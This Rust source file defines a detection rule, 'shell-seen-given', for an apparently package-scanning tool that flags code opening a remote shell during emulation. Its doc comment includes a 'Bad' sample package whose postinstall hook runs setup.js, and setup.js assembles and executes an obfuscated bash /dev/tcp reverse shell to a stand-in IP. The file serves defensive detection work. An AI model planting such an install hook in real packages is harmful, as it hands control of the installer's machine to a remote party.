//! # A shell is seen being given to another machine
//!
//! Run in a fake world, the code started a command that connects a shell to another machine.
//!
//! ## Why it matters
//!
//! Whoever listens there types what they like, as the user who installed the package.
//!
//! ## Known benign uses
//!
//! Tools for remote work start such commands when a person asks for it: a finding of theirs is no proof.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const parts = ["bash -i >& /dev/tcp", "198.51.100.7", "4444 0>&1"];
//! require("child_process").execSync(parts.join("/")); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! require("child_process").execSync("bash -c 'echo ready'");
//! ```
//!
//! ## References
//!
//! - MITRE ATT&CK T1059.004

use crate::prelude::*;

/// A shell is seen being given to another machine.
pub struct ShellSeenGiven;

impl Rule for ShellSeenGiven {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "shell-seen-given",
            title: "A shell is seen being given to another machine",
            tier: Tier::Emulation,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1059.004",
            covers: &["impact-remote-shell"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_given = |proof: &&Proof| proof.kind == ProofKind::ShellGiven;
        facts.proofs().iter().filter(is_given).for_each(|proof| found.seen(proof));
    }
}
